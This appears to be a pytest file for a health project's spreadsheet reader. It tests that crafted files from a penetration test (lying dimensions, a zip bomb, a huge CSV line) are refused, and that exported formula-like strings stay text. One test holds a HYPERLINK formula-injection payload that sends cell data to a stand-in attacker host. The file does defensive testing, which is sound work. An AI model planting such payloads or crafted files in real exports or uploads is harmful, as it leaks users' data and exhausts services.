"""The shared spreadsheet reader: the penetration test's crafted files are refused at once
(bounded by the result, an error, not by a timing), and real files still read."""

from __future__ import annotations

import datetime
import io
import tracemalloc

import pytest
from openpyxl import Workbook, load_workbook

from covidhub.core.spreadsheets import (
    SheetLimits,
    SpreadsheetRefused,
    csv_safe,
    sheet_read,
    xlsx_set,
)
from covidhub.core.testing import xlsx_crafted

HEADER = ["barcode", "result"]


def _refusal(content: bytes, limits: SheetLimits | None = None) -> str:
    with pytest.raises(SpreadsheetRefused) as exc:
        sheet_read(content=content, limits=limits)
    assert exc.value.status == 400
    assert exc.value.details["fields"]["file"] == [str(exc.value.message)]
    return exc.value.reason


def test_the_pentest_file_far_cell_under_a_lying_dimension_is_refused() -> None:
    # The finding's file: 1.6 KB, <dimension ref="A1:XFD20000"/> and one cell at XFD20000.
    # openpyxl's read-only iter_rows pads every row to the dimension: 327 million cells.
    content = xlsx_crafted(
        rows=[HEADER, ["T1", "neg"]], dimension="A1:XFD20000", far_cells=("XFD20000",)
    )
    assert len(content) < 2000
    assert _refusal(content) == "too_many_columns"


def test_a_lying_dimension_alone_is_ignored() -> None:
    content = xlsx_crafted(rows=[HEADER, ["T1", "neg"]], dimension="A1:XFD1048576")
    assert sheet_read(content=content) == [HEADER, ["T1", "neg"]]


def test_a_far_row_beyond_the_row_limit_is_refused() -> None:
    content = xlsx_crafted(rows=[HEADER], far_cells=("A1048576",))
    assert _refusal(content, SheetLimits(max_rows=100)) == "too_many_rows"


def test_a_zip_bomb_is_refused_before_parsing() -> None:
    # 20 MB of XML that packs into ~20 KB: refused on the zip directory's sizes.
    content = xlsx_crafted(rows=[HEADER], padding=20 * 1024 * 1024)
    assert len(content) < 1024 * 1024
    assert _refusal(content) == "too_large_unpacked"


def test_unpacked_size_is_bounded_even_when_the_ratio_looks_normal() -> None:
    content = xlsx_crafted(rows=[HEADER], padding=3 * 1024 * 1024)
    limits = SheetLimits(max_unpacked=2 * 1024 * 1024, max_ratio=10_000)
    assert _refusal(content, limits) == "too_large_unpacked"


def test_too_many_rows_and_columns_in_xlsx_and_csv() -> None:
    limits = SheetLimits(max_rows=5, max_columns=3)
    many_rows = xlsx_crafted(rows=[HEADER] + [["T", "neg"]] * 10)
    assert _refusal(many_rows, limits) == "too_many_rows"
    wide = xlsx_crafted(rows=[["a", "b", "c", "d"]])
    assert _refusal(wide, limits) == "too_many_columns"
    assert _refusal(b"barcode,result\n" + b"T,neg\n" * 10, limits) == "too_many_rows"
    assert _refusal(b"a,b,c,d\n", limits) == "too_many_columns"


def test_a_far_cell_in_csv_is_refused_before_its_line_is_split() -> None:
    # Pen-test retest of finding 4 with CSV: one line of 9 million commas and a cell at its
    # end (a 9 MB file) was split into 9 million cells, 275 MB, before the column limit.
    content = b"barcode,result\n" + b"," * 9_000_000 + b"x\n"
    tracemalloc.start()
    try:
        assert _refusal(content) == "too_many_columns"
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 48 * 1024 * 1024, f"{peak / 1e6:.0f} MB"
    # Trailing separators up to a spreadsheet's width are still a readable file.
    assert sheet_read(content=b"barcode,result" + b"," * 16_000 + b"\nT1,neg\n") == [
        ["barcode", "result"],
        ["T1", "neg"],
    ]


def test_the_deadline_stops_a_slow_read() -> None:
    content = b"barcode,result\n" + b"T,neg\n" * 1000
    assert _refusal(content, SheetLimits(max_seconds=-1)) == "too_slow"


def test_size_empty_and_non_spreadsheets_are_refused() -> None:
    assert _refusal(b"x" * 2048, SheetLimits(max_bytes=1024)) == "too_large"
    assert _refusal(b"") == "empty"
    assert _refusal(b"PK\x03\x04 not a zip") == "unreadable"
    assert _refusal(b"\xd0\xcf\x11\xe0" + b"\x00" * 64) == "xls"
    assert _refusal("Lê Văn Tâm\n".encode("cp1258")) == "encoding"


def test_a_real_workbook_reads_with_types_and_row_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Họ và tên", "Ngày sinh", "Số"])
    sheet.append([])
    born = datetime.datetime(1985, 3, 15)  # noqa: DTZ001 - a spreadsheet date has no zone
    sheet.append(["Lê Văn Tâm", born, 30085000001])
    out = io.BytesIO()
    workbook.save(out)
    rows = sheet_read(content=out.getvalue())
    assert rows[0] == ["Họ và tên", "Ngày sinh", "Số"]
    assert rows[1] == []  # row numbers stay as the spreadsheet shows them
    assert rows[2] == ["Lê Văn Tâm", born, 30085000001]


def test_exported_strings_that_look_like_formulas_stay_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    for column, value in enumerate([evil, "+1+1", "-2", "@SUM(A1)", "\t=1", "Sở Y tế", -3], 1):
        xlsx_set(sheet, row=1, column=column, value=value)
    out = io.BytesIO()
    workbook.save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]  # type: ignore[index]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "s", "n"]
    assert cells[0].value == evil and cells[0].quotePrefix
    assert csv_safe(evil) == "'" + evil
    assert csv_safe("Sở Y tế") == "Sở Y tế" and csv_safe(-3) == -3
